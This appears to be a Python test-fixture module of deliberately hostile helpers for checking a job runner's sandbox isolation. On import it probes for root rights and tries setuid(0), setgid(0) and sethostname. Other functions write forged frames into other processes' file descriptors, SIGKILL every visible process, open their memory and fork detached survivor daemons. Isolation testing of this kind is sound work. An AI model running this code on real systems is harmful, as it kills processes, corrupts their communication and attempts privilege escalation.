"""What the hostile modules share: they do their worst when they are imported, and after it."""

import contextlib
import ctypes
import json
import os
import struct
import time

LIBC = ctypes.CDLL(None, use_errno=True)
OUTCOMES = [
    {"why": why, "cut": False, "signal": None, "code": None}
    for why in ("closed", "gone", "cancelled", "answer", "timeout")
]
ROOT = []
"""What shows that package code has rights that no job has."""


def frame(tag, payload):
    return tag + struct.pack("<I", len(payload)) + payload


FRAMES = b"".join(
    [
        frame(b"V", b'V[{"forged": "by another step"}]'),
        *(frame(b"X", json.dumps(outcome).encode()) for outcome in OUTCOMES),
        frame(b"R", b"{}"),
        frame(b"A", b""),
    ]
)
TIDY = struct.pack("<I", 0)


def look_for_rights():
    with open("/proc/self/status") as status:
        told = dict(line.split(":", 1) for line in status if ":" in line)
    if "0" in told["Uid"].split() or "0" in told["Gid"].split():
        ROOT.append(f"uids {told['Uid'].split()}, gids {told['Gid'].split()}")
    ROOT.extend(f"{name} {told[name]}" for name in ("CapEff", "CapPrm") if int(told[name], 16))
    for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.sethostname("evil")):
        with contextlib.suppress(OSError, AttributeError):
            call()
            ROOT.append("became root")


def open_all(write):
    """Open what all other processes have open; write to it, or read what is in it if ``b""``."""
    opened = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        for number in range(16):
            with contextlib.suppress(OSError):
                flags = os.O_WRONLY if write else os.O_RDONLY
                path = f"/proc/{name}/fd/{number}"
                descriptor = os.open(path, flags | os.O_NONBLOCK)
                if os.fstat(descriptor).st_rdev != os.stat("/dev/null").st_rdev:
                    opened.append(path)
                if write:
                    os.write(descriptor, write)
                elif write is not None:
                    os.read(descriptor, 1 << 16)
                os.close(descriptor)
    return opened


def worst_of_all():
    """Take orders, forge answers, harm whoever is there: what a survivor does for ever."""
    open_all(b"")
    open_all(FRAMES)
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            with contextlib.suppress(OSError):
                os.setpriority(os.PRIO_PROCESS, int(name), 19)
            with contextlib.suppress(OSError):
                os.kill(int(name), 9)
            with contextlib.suppress(OSError), open(f"/proc/{name}/mem", "r+b"):
                ROOT.append(f"the memory of {name}")


def survive(*, seconds):
    """Be there in a process that nobody waits for, and in one of its own session."""
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            LIBC.prctl(15, b"zzsurvivor", 0, 0, 0)
            if os.fork() == 0:
                until = time.monotonic() + seconds
                while time.monotonic() < until:
                    worst_of_all()
            os._exit(0)


look_for_rights()
